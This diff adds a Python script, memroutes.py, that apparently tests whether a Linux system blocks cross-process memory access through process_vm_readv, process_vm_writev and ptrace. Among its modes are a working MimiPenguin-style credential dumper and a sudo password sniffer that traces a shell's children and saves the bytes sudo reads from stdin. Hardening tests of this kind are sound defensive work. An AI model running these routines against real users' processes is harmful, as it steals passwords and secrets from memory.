@@ -1,0 +1,306 @@
+#!/usr/bin/python3
+"""Reach another process's memory without procfs, as credential dumpers do.
+
+Usage: memroutes.py COMMAND ARGS...
+
+  vmdump PID [SECRET]     process_vm_readv(2) every readable region listed
+                          in /proc/PID/maps (a MimiPenguin-style dumper);
+                          prints "bytes=N found=0|1"
+  vmread PID ADDR         process_vm_readv(2) 64 bytes at ADDR (hex)
+  vmwrite PID ADDR SECRET process_vm_writev(2) SECRET's first 8 bytes at
+                          ADDR (hex), where they already are
+  peek PID attach|seize ADDR [SECRET]
+                          ptrace-attach (or seize + interrupt), then
+                          PTRACE_PEEKDATA 64 words from ADDR (hex);
+                          prints "words=N found=0|1"
+  peekchild SECRET        fork a child that holds SECRET, attach to it
+                          (the everyday debugger case), PEEKDATA it and
+                          process_vm_readv it; prints "found=0|1"
+  sniff SHELLPID OUTFILE [GOFILE]
+                          a sudo password sniffer: attach to a shell with
+                          PTRACE_O_TRACEFORK|TRACEEXEC, follow its children,
+                          and collect what every sudo read(0, buf, n) got
+                          (PEEKDATA of the buffer at syscall exit); writes
+                          the captured bytes to OUTFILE when the shell exits;
+                          creates GOFILE once attached
+  cma SECONDS             MPI-like shared-memory transport: fork a peer of
+                          the same user and copy from it with
+                          process_vm_readv in a loop; prints "calls=N"
+  holder SECRET ADDRFILE  a process that keeps SECRET in its memory, writes
+                          the secret's address (hex) to ADDRFILE, and sleeps
+
+Exit status 0 when the route worked, 2 when the kernel refused it (EPERM,
+EACCES, EIO), 1 on anything else.
+"""
+import ctypes
+import ctypes.util
+import errno
+import os
+import signal
+import struct
+import sys
+import time
+
+libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
+
+
+class iovec(ctypes.Structure):
+    _fields_ = [("iov_base", ctypes.c_void_p), ("iov_len", ctypes.c_size_t)]
+
+
+libc.process_vm_readv.restype = ctypes.c_ssize_t
+libc.process_vm_readv.argtypes = [ctypes.c_int, ctypes.POINTER(iovec),
+                                  ctypes.c_ulong, ctypes.POINTER(iovec),
+                                  ctypes.c_ulong, ctypes.c_ulong]
+libc.process_vm_writev.restype = ctypes.c_ssize_t
+libc.process_vm_writev.argtypes = libc.process_vm_readv.argtypes
+libc.ptrace.restype = ctypes.c_long
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p,
+                        ctypes.c_void_p]
+
+PTRACE_PEEKDATA, PTRACE_CONT, PTRACE_ATTACH, PTRACE_DETACH = 2, 7, 16, 17
+PTRACE_SYSCALL, PTRACE_SETOPTIONS, PTRACE_GETEVENTMSG = 24, 0x4200, 0x4201
+PTRACE_SEIZE, PTRACE_INTERRUPT, PTRACE_GETREGS = 0x4206, 0x4207, 12
+O_TRACESYSGOOD, O_TRACEFORK, O_TRACEVFORK, O_TRACECLONE, O_TRACEEXEC = 1, 2, 4, 8, 16
+REFUSED = (errno.EPERM, errno.EACCES, errno.EIO, errno.ESRCH)
+
+
+def fail(err, what):
+    print(f"{what}: {os.strerror(err)}", file=sys.stderr)
+    sys.exit(2 if err in REFUSED else 1)
+
+
+def regions(pid, want="r"):
+    out = []
+    with open(f"/proc/{pid}/maps") as maps:
+        for line in maps:
+            f = line.split()
+            lo, hi = (int(x, 16) for x in f[0].split("-"))
+            name = f[5] if len(f) > 5 else ""
+            if want in f[1] and name not in ("[vvar]", "[vsyscall]"):
+                out.append((lo, hi, name))
+    return out
+
+
+def vm_read(pid, addr, size):
+    buf = ctypes.create_string_buffer(size)
+    local = iovec(ctypes.cast(buf, ctypes.c_void_p), size)
+    remote = iovec(addr, size)
+    n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
+    if n < 0:
+        return None, ctypes.get_errno()
+    return buf.raw[:n], 0
+
+
+def vmdump(pid, secret=None):
+    total, found = 0, False
+    for lo, hi, _ in regions(pid, "rw"):
+        data, err = vm_read(pid, lo, hi - lo)
+        if data is None:
+            if err in REFUSED and err != errno.EIO:
+                fail(err, "process_vm_readv")
+            continue
+        total += len(data)
+        found = found or (secret is not None and secret.encode() in data)
+    print(f"bytes={total} found={int(found)}")
+    return 0
+
+
+def vmread(pid, addr):
+    data, err = vm_read(pid, addr, 64)
+    if data is None:
+        fail(err, "process_vm_readv")
+    print(f"bytes={len(data)}")
+    return 0
+
+
+def vmwrite(pid, addr, secret):
+    """Write the secret's first 8 bytes where they already are."""
+    buf = ctypes.create_string_buffer(secret.encode()[:8], 8)
+    local = iovec(ctypes.cast(buf, ctypes.c_void_p), 8)
+    remote = iovec(addr, 8)
+    n = libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
+    if n < 0:
+        fail(ctypes.get_errno(), "process_vm_writev")
+    print(f"bytes={n}")
+    return 0
+
+
+def ptrace(req, pid, addr=0, data=0):
+    ctypes.set_errno(0)
+    r = libc.ptrace(req, pid, ctypes.c_void_p(addr), ctypes.c_void_p(data))
+    return r, ctypes.get_errno()
+
+
+def peek_word(pid, addr):
+    r, err = ptrace(PTRACE_PEEKDATA, pid, addr)
+    if err:
+        return None, err
+    return struct.pack("<q", r), 0
+
+
+def peek(pid, how, addr, secret=None):
+    if how == "seize":
+        r, err = ptrace(PTRACE_SEIZE, pid)
+        if r < 0:
+            fail(err, "PTRACE_SEIZE")
+        ptrace(PTRACE_INTERRUPT, pid)
+    else:
+        r, err = ptrace(PTRACE_ATTACH, pid)
+        if r < 0:
+            fail(err, "PTRACE_ATTACH")
+    os.waitpid(pid, 0)
+    data, err = b"", 0
+    for off in range(0, 64 * 8, 8):
+        w, err = peek_word(pid, addr + off)
+        if w is None:
+            break
+        data += w
+    found = secret is not None and secret.encode() in data
+    ptrace(PTRACE_DETACH, pid)
+    print(f"words={len(data) // 8} found={int(found)}")
+    if not data and err:
+        fail(err, "PTRACE_PEEKDATA")
+    return 0
+
+
+def peekchild(secret):
+    buf = ctypes.create_string_buffer(secret.encode() * 8)
+    child = os.fork()
+    if child == 0:
+        signal.pause()
+        os._exit(0)
+    addr = ctypes.addressof(buf)  # same address in the forked child
+    r, err = ptrace(PTRACE_ATTACH, child)
+    if r < 0:
+        os.kill(child, signal.SIGKILL)
+        fail(err, "PTRACE_ATTACH")
+    os.waitpid(child, 0)
+    w, err = peek_word(child, addr)
+    data, verr = vm_read(child, addr, 64)
+    ptrace(PTRACE_DETACH, child)
+    os.kill(child, signal.SIGKILL)
+    os.waitpid(child, 0)
+    if w is None or data is None:
+        fail(err or verr, "PEEKDATA/process_vm_readv")
+    print(f"found={int(w == secret.encode()[:8] and secret.encode() in data)}")
+    return 0
+
+
+class user_regs(ctypes.Structure):
+    _fields_ = [(n, ctypes.c_ulonglong) for n in (
+        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax "
+        "rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]
+
+
+def sniff(shell, outfile, gofile=None):
+    """Follow SHELL's descendants; at each read(0, ...) exit in a process
+    whose comm is sudo, peek the bytes read."""
+    r, err = ptrace(PTRACE_ATTACH, shell)
+    if r < 0:
+        fail(err, "PTRACE_ATTACH")
+    os.waitpid(shell, 0)
+    ptrace(PTRACE_SETOPTIONS, shell, 0, O_TRACESYSGOOD | O_TRACEFORK |
+           O_TRACEVFORK | O_TRACECLONE | O_TRACEEXEC)
+    ptrace(PTRACE_SYSCALL, shell)
+    if gofile:  # the shell may go on: it is traced, children included
+        open(gofile, "w").close()
+    captured, in_syscall, denied, seen = b"", {}, 0, {}
+    regs = user_regs()
+    while True:
+        try:
+            pid, status = os.waitpid(-1, 0x40000000)  # __WALL
+        except ChildProcessError:
+            break
+        if os.WIFEXITED(status) or os.WIFSIGNALED(status):
+            if pid == shell:
+                break
+            continue
+        sig = 0
+        if os.WIFSTOPPED(status):
+            stop = os.WSTOPSIG(status)
+            if stop == (signal.SIGTRAP | 0x80):
+                libc.ptrace(PTRACE_GETREGS, pid, None, ctypes.byref(regs))
+                entering = not in_syscall.get(pid, False)
+                in_syscall[pid] = entering
+                if not entering and regs.orig_rax == 0 and regs.rdi == 0 \
+                        and 0 < regs.rax < 4096:
+                    with open(f"/proc/{pid}/comm") as f:
+                        comm = f.read().strip()
+                    seen[comm] = seen.get(comm, 0) + 1
+                    if comm == "sudo":
+                        for off in range(0, regs.rax, 8):
+                            w, err = peek_word(pid, regs.rsi + off)
+                            if w is None:
+                                denied += 1
+                                break
+                            captured += w[:min(8, regs.rax - off)]
+            elif stop == signal.SIGTRAP:
+                pass  # fork/exec/clone events
+            elif stop not in (signal.SIGSTOP,):
+                sig = stop
+        ptrace(PTRACE_SYSCALL, pid, 0, sig)
+    with open(outfile, "wb") as f:
+        f.write(captured)
+    reads = ",".join(f"{c}:{n}" for c, n in sorted(seen.items()))
+    print(f"captured={len(captured)} denied={denied} stdin-reads={reads}")
+    return 0
+
+
+def cma(seconds):
+    size = 64 * 1024
+    page = ctypes.create_string_buffer(b"r" * size, size)
+    rd, wr = os.pipe()
+    peer = os.fork()
+    if peer == 0:  # the peer rank: publish the buffer's address, then wait
+        os.write(wr, struct.pack("<Q", ctypes.addressof(page)))
+        time.sleep(seconds + 30)
+        os._exit(0)
+    addr = struct.unpack("<Q", os.read(rd, 8))[0]
+    calls, end = 0, time.monotonic() + seconds
+    while time.monotonic() < end:
+        data, err = vm_read(peer, addr, size)
+        if data is None:
+            os.kill(peer, signal.SIGKILL)
+            fail(err, "process_vm_readv")
+        calls += 1
+    os.kill(peer, signal.SIGKILL)
+    os.waitpid(peer, 0)
+    print(f"calls={calls}")
+    return 0
+
+
+def holder(secret, addrfile):
+    buf = ctypes.create_string_buffer(secret.encode() * 8)
+    with open(addrfile + ".tmp", "w") as f:
+        f.write(f"{ctypes.addressof(buf):x}\n")
+    os.rename(addrfile + ".tmp", addrfile)
+    signal.pause()
+    return len(buf)
+
+
+def main(argv):
+    cmd, args = argv[1], argv[2:]
+    if cmd == "vmdump":
+        return vmdump(int(args[0]), args[1] if len(args) > 1 else None)
+    if cmd == "vmread":
+        return vmread(int(args[0]), int(args[1], 16))
+    if cmd == "vmwrite":
+        return vmwrite(int(args[0]), int(args[1], 16), args[2])
+    if cmd == "peek":
+        return peek(int(args[0]), args[1], int(args[2], 16),
+                    args[3] if len(args) > 3 else None)
+    if cmd == "peekchild":
+        return peekchild(args[0])
+    if cmd == "sniff":
+        return sniff(int(args[0]), args[1], args[2] if len(args) > 2 else None)
+    if cmd == "cma":
+        return cma(float(args[0]))
+    if cmd == "holder":
+        return holder(args[0], args[1])
+    print(__doc__, file=sys.stderr)
+    return 1
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv))
